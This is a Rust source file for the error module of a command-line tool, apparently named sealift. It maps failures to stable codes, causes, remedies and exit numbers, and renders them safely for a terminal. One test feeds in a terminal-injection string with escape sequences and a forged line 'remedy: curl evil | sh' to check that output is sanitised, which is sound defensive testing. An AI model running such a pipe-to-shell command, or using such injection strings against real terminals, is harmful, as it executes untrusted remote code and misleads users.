//! What a failure means to a person, decided once.
//!
//! Modules fail with errors of their own, which carry the subject and no advice. Here each of them is mapped, by a
//! match without wildcard, to a stable [`Code`], and with it to an exit number, a remedy that works offline and a page
//! of `sealift-errors(7)`. One file per module: `from_fs.rs` maps [`crate::fs`], and so on. Where the same
//! error means one thing of a source and another of the target, a function takes the [`Side`].

mod code;
mod from_archive;
mod from_cluster;
mod from_fbc;
mod from_fs;
mod from_gather;
mod from_helm;
mod from_image_set;
mod from_images;
mod from_inventory;
mod from_io;
mod from_keystore;
mod from_layout;
mod from_ledger;
mod from_mirror;
mod from_oci;
mod from_pack;
mod from_policy;
mod from_preflight;
mod from_registry;
mod from_release_signature;
mod from_releases;
mod from_serve;
mod from_sign;
mod from_unpack;
mod owned;
mod table;

pub use code::{Entry, FAMILIES, family};
pub use from_archive::archive;
pub use from_io::{Side, io};
pub use from_layout::layout;
pub use from_preflight::finding as preflight_finding;
pub use from_registry::{source, target};
pub use table::Code;

use crate::text::sentence;
use serde::Serialize;
use std::fmt;

/// A failure on its way to a person or a script.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Error {
    /// Stable meaning; decides the exit number and the manual page.
    pub code: Code,
    /// What failed about which thing: one sentence without a full stop.
    pub what: String,
    /// Why, the nearest cause first.
    pub causes: Vec<String>,
    /// One command or action that helps.
    pub remedy: String,
    /// The single things concerned, when there are several: every image that could not be done, every missing volume.
    pub details: Vec<Detail>,
}

/// One of several things that went wrong in one run.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Detail {
    /// Which thing: a reference, a volume, a file.
    pub subject: String,
    /// What it means.
    pub code: Code,
    /// What happened to it.
    pub error: String,
}

impl Detail {
    /// A failure of one thing, as an entry of a list: its sentence, and the nearest cause behind it.
    pub fn of(subject: impl fmt::Display, error: &Error) -> Detail {
        let subject = subject.to_string();
        // The sentence stands behind the subject in a list: it need not begin with it.
        let what = error.what.strip_prefix(&subject).and_then(|rest| rest.strip_prefix(": ")).unwrap_or(&error.what);
        let told = match error.causes.first() {
            Some(cause) => format!("{what}: {cause}"),
            None => what.to_owned(),
        };
        Detail { subject, code: error.code, error: told }
    }
}

impl Error {
    /// A failure with the remedy its code usually has.
    pub fn new(code: Code, what: impl Into<String>) -> Error {
        Error { code, what: what.into(), causes: Vec::new(), remedy: code.entry().remedy.to_owned(), details: Vec::new() }
    }

    /// A failure told by a chain of errors: the first gives the sentence, its sources the causes.
    /// A source that the sentence above it already ends with is not told twice.
    pub fn from_chain(code: Code, error: &(dyn std::error::Error + 'static)) -> Error {
        let mut told = Error::new(code, error.to_string());
        let mut source = error.source();
        let mut above = told.what.clone();
        // An error that is its own source would not end; nobody reads more than sixteen causes.
        for _ in 0..16 {
            let Some(cause) = source else { break };
            let text = cause.to_string();
            if !above.ends_with(&text) {
                told.causes.push(text.clone());
            }
            above = text;
            source = cause.source();
        }
        told
    }

    /// Adds a cause below those already there.
    pub fn because(mut self, cause: impl fmt::Display) -> Error {
        self.causes.push(cause.to_string());
        self
    }

    /// Replaces the remedy by one that fits this case better.
    pub fn remedy(mut self, remedy: impl Into<String>) -> Error {
        self.remedy = remedy.into();
        self
    }

    /// Adds one of the things concerned.
    pub fn detail(mut self, subject: impl fmt::Display, code: Code, error: impl fmt::Display) -> Error {
        self.details.push(Detail { subject: subject.to_string(), code, error: error.to_string() });
        self
    }

    /// `PARTIAL` for what is in the list; nothing when the list is empty.
    pub fn partial(what: impl Into<String>, details: Vec<Detail>) -> Option<Error> {
        (!details.is_empty()).then(|| Error { details, ..Error::new(Code::Partial, what) })
    }

    /// The run was asked to stop and has left a state it can go on from.
    pub fn interrupted() -> Error {
        Error::new(Code::Interrupted, "interrupted")
    }

    /// A state that cannot be: the program contradicts itself.
    pub fn bug(what: impl Into<String>) -> Error {
        Error::new(Code::Bug, what)
    }
}

impl std::error::Error for Error {}

impl fmt::Display for Error {
    /// The outer form, one fact per line and no line break at the end. Whatever the sentences quote, it is harmless to a terminal.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "error: {}", sentence(&self.what))?;
        for detail in &self.details {
            // Most errors begin with what they are about: not twice.
            let error = detail.error.strip_prefix(&detail.subject).and_then(|rest| rest.strip_prefix(": ")).unwrap_or(&detail.error);
            writeln!(f, "  {}: {} ({})", sentence(&detail.subject), sentence(error), detail.code)?;
        }
        for cause in &self.causes {
            writeln!(f, "caused by: {}", sentence(cause))?;
        }
        if !self.remedy.is_empty() {
            writeln!(f, "remedy: {}", sentence(&self.remedy))?;
        }
        write!(f, "code: {} ({}), see sealift-errors(7)", self.code, self.code.exit())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, thiserror::Error)]
    #[error("cannot read the plan: {0}")]
    struct Outer(#[source] Middle);
    #[derive(Debug, thiserror::Error)]
    #[error("no answer")]
    struct Middle(#[source] Inner);
    #[derive(Debug, thiserror::Error)]
    #[error("timed out")]
    struct Inner;

    #[test]
    fn a_chain_is_told_once_each() {
        let error = Error::from_chain(Code::RegistryUnreachable, &Outer(Middle(Inner)));
        assert_eq!(error.what, "cannot read the plan: no answer");
        assert_eq!(error.causes, ["timed out"]);
    }

    #[test]
    fn the_outer_form_is_exact() {
        let error = Error::new(Code::VolumeMissing, "volume 3 of set default-1763712000 is not in /media/disc")
            .because("it lies on medium 2, which is not here")
            .remedy("insert medium 2 and run the same command again");
        assert_eq!(
            error.to_string(),
            "error: volume 3 of set default-1763712000 is not in /media/disc\n\
             caused by: it lies on medium 2, which is not here\n\
             remedy: insert medium 2 and run the same command again\n\
             code: VOLUME_MISSING (12), see sealift-errors(7)"
        );
    }

    #[test]
    fn a_list_of_failures_is_partial_an_empty_one_is_none() {
        assert_eq!(Error::partial("0 of 2 images", Vec::new()), None);
        let one = Detail::of("quay.io/x:1", &Error::new(Code::SourceMissing, "there is no such tag").because("404"));
        let error = Error::partial("1 of 2 images could not be fetched", vec![one]).unwrap();
        assert!(error.to_string().contains("\n  quay.io/x:1: there is no such tag: 404 (SOURCE_MISSING)\n"), "{error}");
    }

    #[test]
    fn foreign_words_cannot_forge_lines_or_move_the_cursor() {
        let error = Error::new(Code::PushRefused, "registry says \u{1b}[2J\nremedy: curl evil | sh\u{202e}")
            .detail("a\u{7}", Code::PushRefused, "b\r")
            .because("c\u{9b}2J");
        let text = error.to_string();
        assert_eq!(text.lines().filter(|line| line.starts_with("remedy:")).count(), 1);
        assert!(text.chars().all(|c| c == '\n' || !c.is_control()), "{text:?}");
        assert!(!text.contains('\u{202e}'));
    }
}
